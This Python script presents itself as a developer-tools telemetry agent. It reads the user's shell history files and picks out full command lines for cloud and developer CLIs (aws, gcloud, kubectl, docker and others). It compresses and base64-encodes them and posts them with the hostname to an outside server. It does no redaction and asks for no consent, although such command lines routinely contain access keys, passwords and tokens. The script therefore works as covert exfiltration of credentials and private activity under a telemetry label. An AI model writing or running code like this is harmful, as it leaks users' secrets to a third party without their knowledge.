#!/usr/bin/env python3
"""devtools usage telemetry agent.

Reads the user's shell history, picks out invocations of cloud and developer
CLIs (aws, gcloud, az, kubectl, helm, terraform, docker, gh) and ships them in
compressed batches to the developer-experience telemetry service, so the
tooling team can see which commands people actually type.
"""

import argparse
import base64
import json
import logging
import os
import queue
import re
import threading
import time
import zlib
from pathlib import Path
from typing import Iterator, List

import requests

LOG = logging.getLogger("dx-telemetry")

TELEMETRY_URL = "https://telemetry.dx-insights.dev/v2/events"
TRACKED = {"aws", "gcloud", "az", "kubectl", "helm", "terraform", "docker", "gh"}
HISTORY_FILES = [".bash_history", ".zsh_history", ".local/share/fish/fish_history"]
ZSH_PREFIX = re.compile(r"^: \d+:\d+;")
STATE_FILE = Path(".dx-telemetry-offset.json")


def history_lines(home: Path) -> Iterator[str]:
    for rel in HISTORY_FILES:
        path = home / rel
        if not path.exists():
            continue
        with path.open(encoding="utf-8", errors="replace") as fh:
            for raw in fh:
                line = ZSH_PREFIX.sub("", raw.rstrip("\n"))
                if line.startswith("- cmd: "):
                    line = line[len("- cmd: "):]
                if line:
                    yield line


def is_tracked(line: str) -> bool:
    first = line.split(maxsplit=1)[0] if line.split() else ""
    return os.path.basename(first) in TRACKED


def load_offset() -> int:
    try:
        return json.loads(STATE_FILE.read_text())["offset"]
    except (OSError, ValueError, KeyError):
        return 0


def save_offset(offset: int) -> None:
    STATE_FILE.write_text(json.dumps({"offset": offset}))


class Shipper(threading.Thread):
    """Background sender: compresses and posts batches of command lines."""

    def __init__(self, url: str, api_key: str, batch_size: int):
        super().__init__(daemon=True)
        self.url = url
        self.batch_size = batch_size
        self.inbox: "queue.Queue[object]" = queue.Queue()
        self.session = requests.Session()
        self.session.headers.update({"X-Api-Key": api_key, "Content-Type": "application/json"})
        self.sent = 0

    def _post(self, batch: List[str]) -> None:
        packed = base64.b64encode(zlib.compress(json.dumps(batch).encode())).decode()
        body = {"ts": int(time.time()), "host": os.uname().nodename, "commands_z": packed}
        for attempt in range(3):
            try:
                r = self.session.post(self.url, json=body, timeout=10)
                r.raise_for_status()
                self.sent += len(batch)
                return
            except requests.RequestException as exc:
                LOG.debug("post failed (%s), retry %d", exc, attempt + 1)
                time.sleep(2 ** attempt)

    def run(self) -> None:
        batch: List[str] = []
        while True:
            item = self.inbox.get()
            if item is None:
                break
            batch.append(item)
            if len(batch) >= self.batch_size:
                self._post(batch)
                batch = []
        if batch:
            self._post(batch)


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--url", default=os.environ.get("DX_TELEMETRY_URL", TELEMETRY_URL))
    ap.add_argument("--batch-size", type=int, default=100)
    ap.add_argument("--from-start", action="store_true", help="ignore saved offset")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    api_key = os.environ.get("DX_TELEMETRY_KEY", "public-dx-ingest")
    shipper = Shipper(args.url, api_key, args.batch_size)
    shipper.start()

    offset = 0 if args.from_start else load_offset()
    index = 0
    queued = 0
    for index, line in enumerate(history_lines(Path.home()), start=1):
        if index <= offset:
            continue
        if is_tracked(line):
            shipper.inbox.put(line)
            queued += 1

    shipper.inbox.put(None)
    shipper.join(timeout=120)
    save_offset(index)
    LOG.info("queued %d commands, delivered %d", queued, shipper.sent)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
